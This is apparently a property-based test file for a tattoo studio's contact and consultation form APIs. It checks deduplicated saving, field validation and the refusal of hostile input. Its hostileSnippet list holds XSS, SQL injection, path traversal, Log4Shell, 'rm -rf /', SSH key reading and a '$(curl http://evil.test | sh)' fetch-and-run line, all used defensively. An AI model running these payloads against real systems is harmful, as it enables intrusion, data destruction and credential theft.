import { env } from "cloudflare:test";
import fc from "fast-check";
import { afterEach, describe, expect, it, vi } from "vitest";
import { scanPayload } from "../../shared/schemas/security-scan";
import { caseCounter, propertyRuns } from "./property-runs";
import { count, post } from "./submission-support";
import { refusedFields } from "./support";

afterEach(() => {
  vi.restoreAllMocks();
});

// Generators of what real people type. Names: letters of several scripts with inner spaces,
// hyphens and apostrophes. Text: words, numbers with units and everyday punctuation.
const letter = fc.constantFrom(
  ..."abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZéüñçøåßłžÆÐ李王ŞİАБВ".split(""),
);
const namePart = fc.array(letter, { minLength: 1, maxLength: 12 }).map((a) => a.join(""));
const name = fc
  .tuple(
    namePart,
    fc.array(fc.tuple(fc.constantFrom(" ", "-", "'", " O'", " Mc"), namePart), { maxLength: 3 }),
  )
  .map(([first, rest]) => first + rest.map(([sep, part]) => sep + part).join(""))
  .filter((n) => [...n].length >= 2 && [...n].length <= 50);

const emailLocal = fc.stringMatching(/^[a-z0-9](?:[a-z0-9._+'-]{0,20}[a-z0-9])?$/);
const emailDomain = fc.stringMatching(
  /^[a-z0-9](?:[a-z0-9-]{0,10}[a-z0-9])?\.(com|org|net|co\.uk|studio|io)$/,
);
const email = fc
  .tuple(emailLocal, emailDomain, fc.boolean())
  .map(([l, d, upper]) => (upper ? `${l}@${d}`.toUpperCase() : `${l}@${d}`))
  .filter((e) => !e.includes("..") && e.length <= 254);

const phone = fc
  .tuple(fc.boolean(), fc.array(fc.integer({ min: 0, max: 9 }), { minLength: 10, maxLength: 14 }))
  .chain(([plus, digits]) =>
    fc
      .array(fc.constantFrom("", " ", "-", ".", "(", ")"), {
        minLength: digits.length,
        maxLength: digits.length,
      })
      .map((seps) => (plus ? "+" : "") + digits.map((d, i) => `${seps[i]}${d}`).join("")),
  );

const word = fc.oneof(
  fc.constantFrom(
    "rose",
    "select",
    "drop",
    "union",
    "script",
    "wolf",
    "mom's",
    '"Juno"',
    "black & grey",
    "fine-line",
    "5'2\"",
    '3" x 4"',
    "(15cm)",
    "#12",
    "50%",
    "$300-400",
    "<3",
    "cat;",
    "C:/",
    "📿",
    "🌹",
    "café",
    "—",
    "or",
    "and",
    "=",
  ),
  fc.stringMatching(/^[a-zA-Z]{1,10}[.,!?;:]?$/),
);
const text = (min: number, max: number) =>
  fc
    .array(word, { minLength: 1, maxLength: 80 })
    .map((words) => words.join(" "))
    .filter((t) => [...t].length >= min && [...t].length <= max && t.trim() === t);
/** A message says something in words: two letters in a row, or an emoji. */
const inWords = (t: string) => /\p{L}\p{M}*\p{L}|\p{Extended_Pictographic}/u.test(t);
const optional = (max: number) => fc.oneof(fc.constant(""), text(1, max));

const validContact = fc.record({
  name,
  email,
  phone: fc.oneof(fc.constant(""), phone),
  service: fc.oneof(
    fc.constant(""),
    fc.constantFrom("consultation", "small", "medium", "large", "coverup", "other"),
  ),
  message: text(10, 1000).filter(inWords),
  newsletter: fc.boolean(),
  ageVerification: fc.constant(true),
  fillMs: fc.integer({ min: 3000, max: 3_600_000 }),
});

const validConsultation = fc.record({
  name,
  email,
  phone,
  tattooIdea: text(10, 1000).filter(inWords),
  size: optional(50),
  placement: optional(100),
  timeframe: optional(50),
  experience: optional(100),
  budget: optional(50),
  availability: optional(500),
  ageVerification: fc.constant(true),
  fillMs: fc.integer({ min: 3000, max: 3_600_000 }),
});

const hostileSnippet = fc.constantFrom(
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(document.cookie)",
  "' OR '1'='1",
  "1 UNION SELECT * FROM admins",
  "x'; DROP TABLE contact_submissions; --",
  "../../../etc/passwd",
  "%2e%2e%2fetc%2fpasswd",
  "$(curl http://evil.test | sh)",
  "; rm -rf / ",
  "$" + "{jndi:ldap://x}",
  "`cat ~/.ssh/id_rsa`",
);

const endpoints = [
  { path: "/api/contact", table: "contact_submissions", valid: validContact, text: "message" },
  {
    path: "/api/consultations",
    table: "consultation_requests",
    valid: validConsultation,
    text: "tattooIdea",
  },
] as const;

for (const endpoint of endpoints) {
  describe(`${endpoint.path} properties`, () => {
    it("every valid submission is saved exactly once, also when its request is repeated", async () => {
      const cases = caseCounter(`${endpoint.path} saved once`);
      vi.spyOn(console, "log").mockImplementation(() => {});
      await fc.assert(
        fc.asyncProperty(endpoint.valid, fc.integer({ min: 1, max: 3 }), async (payload, repeats) => {
          fc.pre(scanPayload(payload) === null);
          cases.ran();
          const before = await count(endpoint.table);
          const key = crypto.randomUUID();
          const answers = [];
          for (let i = 0; i < repeats; i++)
            answers.push(await post(endpoint.path, payload, { idempotencyKey: key }));
          const ids = new Set<string>();
          for (const answer of answers) {
            expect(answer.status, JSON.stringify(await answer.clone().json())).toBe(201);
            ids.add(((await answer.json()) as { id: string }).id);
          }
          expect(ids.size).toBe(1);
          expect(await count(endpoint.table)).toBe(before + 1);
          const [id] = [...ids];
          const row = await env.DB.prepare(`SELECT * FROM ${endpoint.table} WHERE id = ?`)
            .bind(id)
            .first<Record<string, unknown>>();
          expect(row?.email).toBe(payload.email.toLowerCase());
          const outbox = await env.DB.prepare(
            "SELECT COUNT(*) AS n FROM mail_queue WHERE kind = 'notification' AND subject_id = ?",
          )
            .bind(id)
            .first<{ n: number }>();
          expect(outbox?.n).toBe(1);
        }),
        { numRuns: propertyRuns({ ci: 20, deep: 400 }) },
      );
      cases.report();
    });

    it("hostile content anywhere in a valid form is refused with the generic 400 and never saved", async () => {
      const cases = caseCounter(`${endpoint.path} hostile content`);
      vi.spyOn(console, "warn").mockImplementation(() => {});
      await fc.assert(
        fc.asyncProperty(
          endpoint.valid,
          hostileSnippet,
          fc.constantFrom("name", "email", "phone", endpoint.text),
          fc.string({ maxLength: 20 }),
          async (payload, snippet, field, prefix) => {
            cases.ran();
            const before = await count(endpoint.table);
            const response = await post(endpoint.path, { ...payload, [field]: `${prefix} ${snippet}` });
            expect(response.status).toBe(400);
            const body = (await response.json()) as { error: { code: string } };
            expect(["unsafe_content", "validation"]).toContain(body.error.code);
            expect(await count(endpoint.table)).toBe(before);
          },
        ),
        { numRuns: propertyRuns({ ci: 20, deep: 400 }) },
      );
      cases.report();
    });

    it("any JSON at all gets an answer below 500, and a refused one saves nothing", async () => {
      const cases = caseCounter(`${endpoint.path} any JSON`);
      vi.spyOn(console, "warn").mockImplementation(() => {});
      vi.spyOn(console, "log").mockImplementation(() => {});
      const field = fc.oneof(fc.string({ unit: "binary", maxLength: 60 }), fc.jsonValue({ maxDepth: 2 }));
      const payload = fc.oneof(
        fc.jsonValue({ maxDepth: 3 }),
        fc.dictionary(
          fc.constantFrom(
            "name",
            "email",
            "phone",
            endpoint.text,
            "ageVerification",
            "website",
            "fillMs",
            "service",
          ),
          field,
        ),
      );
      await fc.assert(
        fc.asyncProperty(payload, async (body) => {
          cases.ran();
          const before = await count(endpoint.table);
          const response = await post(endpoint.path, body);
          expect(response.status).toBeLessThan(500);
          if (response.status !== 201) expect(await count(endpoint.table)).toBe(before);
          else expect(await count(endpoint.table)).toBe(before + 1);
        }),
        { numRuns: propertyRuns({ ci: 40, deep: 800 }) },
      );
      cases.report();
    });

    it("a valid form with one field broken is refused with that field's message and never saved", async () => {
      const cases = caseCounter(`${endpoint.path} one field broken`);
      const broken = fc.oneof(
        fc.record({
          field: fc.constant("email"),
          value: fc.constantFrom("", "no-at-sign", "a@b", "x".repeat(260)),
        }),
        fc.record({ field: fc.constant("name"), value: fc.constantFrom("", "A", "R2D2", "x".repeat(51)) }),
        fc.record({
          field: fc.constant(endpoint.text),
          value: fc.constantFrom("", "short", "y".repeat(1001)),
        }),
        fc.record({ field: fc.constant("ageVerification"), value: fc.constantFrom(false, "yes", 1, null) }),
        fc.record({ field: fc.constant("phone"), value: fc.constantFrom("12345", "301-555-01ab") }),
      );
      await fc.assert(
        fc.asyncProperty(endpoint.valid, broken, async (payload, { field, value }) => {
          fc.pre(scanPayload(payload) === null);
          cases.ran();
          const before = await count(endpoint.table);
          const response = await post(endpoint.path, { ...payload, [field]: value });
          expect(await refusedFields(response)).toEqual([field]);
          expect(await count(endpoint.table)).toBe(before);
        }),
        { numRuns: propertyRuns({ ci: 20, deep: 400 }) },
      );
      cases.report();
    });
  });
}
